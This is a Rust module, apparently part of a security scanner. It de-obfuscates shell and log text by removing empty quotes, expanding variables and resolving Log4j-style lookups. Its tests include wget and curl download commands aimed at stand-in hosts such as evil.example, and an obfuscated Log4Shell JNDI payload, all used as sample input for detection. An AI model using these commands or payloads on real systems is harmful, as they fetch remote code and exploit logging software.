//! Text as a shell or a logger makes it of what was typed: variables by their values, empty quotes gone, lookups that
//! hide letters resolved.

use std::collections::HashMap;

/// Longer scripts are left as they are.
const LONGEST: usize = 64 << 10;
/// The most that an expansion makes.
const MADE_BYTES: usize = 4 * LONGEST;
const VARIABLES: usize = 64;
const NAME_BYTES: usize = 64;
const VALUE_BYTES: usize = 512;

/// The text, expanded; none where nothing changes.
pub(super) fn expanded(text: &str) -> Option<String> {
    if text.len() > LONGEST {
        return None;
    }
    let mut made = None;
    if text.contains("''") || text.contains("\"\"") {
        made = Some(text.replace("''", "").replace("\"\"", ""));
    }
    let now = made.as_deref().unwrap_or(text);
    if let Some(resolved) = substituted(now) {
        made = Some(resolved);
    }
    made
}

/// `$NAME` and `${NAME}` by what the text assigns to it; `${lower:j}` and `${::-j}` by `j`.
fn substituted(text: &str) -> Option<String> {
    text.contains('$').then_some(())?;
    let variables = assignments(text);
    let mut made = String::with_capacity(text.len());
    let mut rest = text;
    let mut is_changed = false;
    while let Some((before, after)) = rest.split_once('$') {
        made.push_str(before);
        rest = after;
        match reference(after, &variables) {
            Some((value, length)) if made.len() < MADE_BYTES => {
                made.push_str(value);
                rest = &after[length..];
                is_changed = true;
            }
            _ => made.push('$'),
        }
    }
    made.push_str(rest);
    is_changed.then_some(made)
}

/// The value of the reference that stands behind a `$`, and its length.
fn reference<'a>(text: &'a str, variables: &HashMap<&str, &'a str>) -> Option<(&'a str, usize)> {
    let Some(inner) = text.strip_prefix('{') else {
        let length = name_length(text);
        return Some((*variables.get(&text[..length])?, length));
    };
    let end = inner.bytes().take(NAME_BYTES).position(|b| b == b'}')?;
    let name = &inner[..end];
    let value = match name.rsplit_once(":-") {
        Some((_, letter)) => Some(letter),
        None => ["lower:", "upper:"]
            .iter()
            .find_map(|lookup| name.strip_prefix(lookup)),
    };
    let value = variables.get(name).copied().or(value)?;
    Some((value, end + 2))
}

/// The last value of each variable, as the text assigns it.
fn assignments(text: &str) -> HashMap<&str, &str> {
    let words = text.split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '('));
    let assigned = words.filter_map(|word| {
        let (name, value) = word.split_once('=')?;
        let value = value.trim_matches(['"', '\'']);
        let is_name = !name.is_empty() && name_length(name) == name.len();
        let is_value = !value.is_empty() && value.len() <= VALUE_BYTES && !value.contains('$');
        (is_name && is_value).then_some((name, value))
    });
    assigned.take(VARIABLES).collect()
}

fn name_length(text: &str) -> usize {
    let name = text.bytes().take(NAME_BYTES);
    name.take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
        .count()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn expands_what_a_shell_would() {
        for (text, expected) in [
            (
                "U=evil.example; wget http://$U/x ${U}",
                Some("U=evil.example; wget http://evil.example/x evil.example"),
            ),
            (
                "export S=\"http://a.example\" && curl ${S}/$F",
                Some("export S=\"http://a.example\" && curl http://a.example/$F"),
            ),
            ("w''get ht\"\"tp://a.example", Some("wget http://a.example")),
            (
                "${${lower:j}ndi:${::-l}${env:X:-d}ap://a.example}",
                Some("${jndi:ldap://a.example}"),
            ),
            ("wget $U ${V} $1 $", None),
            ("A=$A; $A ${", None),
            ("plain", None),
        ] {
            assert_eq!(expanded(text).as_deref(), expected, "{text}");
        }
        let bomb = format!("A={}; {}", "x".repeat(500), "$A".repeat(20_000));
        assert!(expanded(&bomb).is_some_and(|made| made.len() < 2 * MADE_BYTES));
    }
}
